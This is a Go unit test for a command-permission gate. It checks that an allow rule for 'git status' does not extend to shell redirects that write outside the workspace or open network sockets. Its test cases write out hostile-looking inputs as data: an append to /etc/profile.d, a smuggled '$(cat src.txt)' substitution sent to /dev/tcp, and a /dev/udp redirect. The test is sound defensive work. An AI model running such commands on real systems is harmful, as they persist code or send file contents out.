package gate

import (
	"context"
	"testing"

	"github.com/mnemos-dev/mnemos/policy"
)

// TestSecurityWordRulesDoNotCoverRedirects: an allow rule written for a
// command's words (the default "git status") does not cover what the
// shell does for it: a redirect that writes outside the workspace and
// temp, or one that opens a network connection (bash's /dev/tcp), asks,
// sandboxed or not; a redirect into the workspace stays covered.
func TestSecurityWordRulesDoNotCoverRedirects(t *testing.T) {
	f := newFixture(t, "")
	for _, tc := range []struct {
		script string
		allow  bool
	}{
		{"git status > ../other/README", false},
		{"git status >> /etc/profile.d/x.sh", false},
		{`git status "--$(cat src.txt)" 2> /dev/tcp/127.0.0.1/18443`, false},
		{"git status 2> /dev/udp/10.0.0.1/53", false},
		{"git status > status.txt", true},
		{"git status 2>&1 | head", true},
		{"git status > /dev/null", true},
	} {
		for _, unsandboxed := range []bool{false, true} {
			req := f.req("bash", "-c", tc.script)
			req.Unsandboxed = unsandboxed
			d, err := f.g.Decide(context.Background(), req, Mode{DryRun: true})
			if err != nil {
				t.Fatal(err)
			}
			if (d.Outcome == policy.Allow) != tc.allow {
				t.Errorf("%s (unsandboxed %v): %s (%s), want allowed %v", tc.script, unsandboxed, d.Outcome, d.Reason, tc.allow)
			}
		}
	}
}
